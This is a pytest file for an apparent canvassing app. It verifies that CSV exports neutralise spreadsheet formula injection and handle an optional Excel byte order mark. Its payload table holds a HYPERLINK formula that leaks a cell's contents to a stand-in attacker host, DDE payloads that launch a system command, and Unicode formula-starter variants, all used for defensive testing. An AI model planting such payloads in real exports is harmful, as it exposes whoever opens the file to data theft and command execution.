"""CSV exports a spreadsheet cannot be attacked through, and the byte order mark for Excel
(issue 15, point 3)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from support.page_examples import PAGE_POST_BODY

from canvass_app.cli.main import main
from canvass_app.core.errors import ValidationError
from canvass_app.services.exports import FORMULA_STARTS, export_ledger, safe_cell
from canvass_app.services.history import HistoryFilter
from canvass_app.services.visits import import_visit
from canvass_app.storage.db import open_database

# One payload per character that starts a formula (OWASP's list, then the full-width and
# small forms), as an attacker would type it into a free-text field.
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "full-width =": "＝1+1",
    "full-width +": "＋1+1",
    "full-width -": "－1+1",
    "full-width @": "＠SUM(1)",
    "small =": "﹦1+1",
    "small +": "﹢1+1",
    "small -": "﹣1+1",
    "small @": "﹫SUM(1)",
    "space before =": "   =1+1",
    "line feed before =": "\n=1+1",
    "no-break space before =": "\u00a0=1+1",
    "zero-width space before =": "\u200b=1+1",
    "ideographic space before +": "\u3000+1",
}


def test_every_formula_character_has_a_payload() -> None:
    firsts = {payload.lstrip(" \n\u00a0\u200b\u3000")[0] for payload in PAYLOADS.values()}
    assert FORMULA_STARTS <= firsts


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_safe_cell_neutralises(name: str) -> None:
    payload = PAYLOADS[name]
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", ["-71.1056", "-1", "0.02", "1e-05", "-3.5E+10", -84.18405151367188, 12, "Ana", ""]
)
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == str(value)


@pytest.mark.parametrize("value", ["-1+1", "-", "-1e", "--1", "-٣", "+1", "-0x10", "-1 "])
def test_things_that_only_look_like_numbers_are_neutralised(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.fixture
def hostile_ledger(data_dir: Path) -> Path:
    """One visit per payload, in the free-text reason and the canvasser's name."""
    db = open_database(data_dir)
    try:
        for index, payload in enumerate(PAYLOADS.values()):
            data = dict(
                PAGE_POST_BODY,
                timestamp=f"2026-11-27T10:{index:02d}:00.000Z",
                unavailableReason=payload,
                location={"lat": 42.37, "lng": -71.1056, "confidence": 10},
            )
            import_visit(db, data, canvasser=payload)
    finally:
        db.close()
    return data_dir


def _export(data_dir: Path, out: Path, **options: bool) -> list[dict[str, str]]:
    db = open_database(data_dir)
    try:
        export_ledger(db, HistoryFilter(), out, "csv", **options)
    finally:
        db.close()
    with out.open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def test_the_csv_export_has_no_live_formula(hostile_ledger: Path, tmp_path: Path) -> None:
    rows = _export(hostile_ledger, tmp_path / "ledger.csv")
    assert len(rows) == len(PAYLOADS)
    payloads = set(PAYLOADS.values())
    for row in rows:
        for column, cell in row.items():
            if column in ("lat", "lng", "distance_miles") and cell:
                float(cell)  # a plain number: read as a number, never as a formula
                continue
            assert not cell or cell[0] not in FORMULA_STARTS, (column, cell)
        # The text is all there, behind the quote.
        assert row["unavailable_reason"][1:] in payloads
        assert row["canvasser"].startswith("'")  # (the name is stored trimmed)
        # A negative longitude is still a number to compute with.
        assert float(row["lng"]) == -71.1056
        assert json.loads(row["data_json"])["unavailableReason"] in payloads


def test_the_byte_order_mark_is_an_option(hostile_ledger: Path, tmp_path: Path) -> None:
    plain, excel = tmp_path / "plain.csv", tmp_path / "excel.csv"
    _export(hostile_ledger, plain)
    _export(hostile_ledger, excel, bom=True)
    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")
    assert excel.read_bytes().startswith(b"\xef\xbb\xbflocal_id,")
    assert excel.read_bytes()[3:] == plain.read_bytes()


def test_json_formats_never_get_a_byte_order_mark(hostile_ledger: Path, tmp_path: Path) -> None:
    db = open_database(hostile_ledger)
    try:
        for fmt in ("jsonl", "geojson"):
            with pytest.raises(ValidationError, match="CSV only"):
                export_ledger(db, HistoryFilter(), tmp_path / f"x.{fmt}", fmt, bom=True)
            assert not (tmp_path / f"x.{fmt}").exists()
    finally:
        db.close()


def test_cli_export_bom_flag(hostile_ledger: Path, tmp_path: Path) -> None:
    out = tmp_path / "ledger.csv"
    code = main(["--data-dir", str(hostile_ledger), "export", "--format", "csv", "--bom", str(out)])
    assert code == 0
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    wrong = ["--data-dir", str(hostile_ledger), "export", "--format", "jsonl", "--bom"]
    assert main([*wrong, str(tmp_path / "x.jsonl")]) == 2
